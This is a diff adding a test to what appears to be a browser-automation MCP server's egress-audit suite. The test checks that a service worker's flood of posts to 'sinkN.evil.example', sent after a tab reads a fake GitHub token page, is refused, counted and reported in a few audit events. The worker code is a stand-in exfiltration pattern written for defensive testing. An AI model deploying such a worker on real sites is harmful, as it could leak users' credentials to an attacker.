@@ -132,3 +132,70 @@ describe('the audit of an approved write whose page floods the network', { timeo
     );
   });
 });
+
+describe('the audit of a flood no tab sent', { timeout: 120_000 }, () => {
+  let site: Fixture;
+  let mcp: McpUnderTest;
+  const sent = 200;
+  // A service worker that, told to, posts to subdomains of its site every 10 ms: no tab's hook ties its requests.
+  const worker = `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('message', (event) => { let i = 0; const t = setInterval(() => { fetch('https://sink' + (i % 7) + '.evil.example:' + event.data + '/x?i=' + i, { method: 'POST', mode: 'no-cors', body: 'k' }).catch(() => {}); if (++i === ${sent}) clearInterval(t); }, 10); });`;
+
+  before(async () => {
+    site = await startFixture(
+      {
+        '/settings/tokens': (_req, _body, res) => html(res, '<title>Tokens</title><p>ghp_floodToken78</p>'),
+        '/home': (_req, _body, res) => html(res, '<title>Home</title><p>home</p>'),
+        '/sw.js': (_req, _body, res) => {
+          res.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
+        },
+      },
+      { tls: true },
+    );
+    mcp = await startMcp({ args: ['--mode', 'isolated'] });
+    mcp.human.policy = (message) => ({ decision: /sink\d/.test(message) ? 'reject' : 'approve' });
+  });
+  after(async () => {
+    await mcp?.close();
+    await site?.close();
+  });
+
+  test('a worker’s refused posts after a read are a few audit events, counting every one', async () => {
+    await mcp.call('navigate_page', { url: site.url('evil.example', '/home') });
+    await mcp.call('evaluate_script', {
+      function: `async () => { await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; return 1 }`,
+    });
+    const read = await mcp.call('new_page', { url: site.url('github.com', '/settings/tokens') });
+    assert.match(read.text, /ghp_floodToken78|Tokens/);
+    await mcp.call('take_snapshot');
+    await mcp.call('evaluate_script', {
+      pageId: 'p1',
+      function: `async () => { (await navigator.serviceWorker.ready).active.postMessage(${site.port}); return 'posted' }`,
+    });
+    const events = () =>
+      readFileSync(mcp.auditPath, 'utf8')
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line) as { tool?: string; url?: string; reason?: string })
+        .filter((record) => record.tool === '(egress)' && (record.url ?? '').includes('evil.example'));
+    // The first as it is, then the rest of the window counted in one event when it ends.
+    const summary = await waitFor('the count of the rest', () =>
+      events().find((record) =>
+        /the last of \d+ requests no tab sent to evil\.example/.test(record.reason ?? ''),
+      ),
+    );
+    await new Promise((done) => setTimeout(done, 6_000));
+    const told = events();
+    assert.ok(told.length <= 4, `${told.length} audit events for one worker's flood`);
+    const counted = told.reduce(
+      (sum, record) => sum + Number(/the last of (\d+) requests/.exec(record.reason ?? '')?.[1] ?? 1),
+      0,
+    );
+    assert.equal(counted, sent, JSON.stringify(summary));
+    assert.deepEqual(
+      site.seen.filter((seen) => seen.host.startsWith('sink')),
+      [],
+    );
+  });
+});
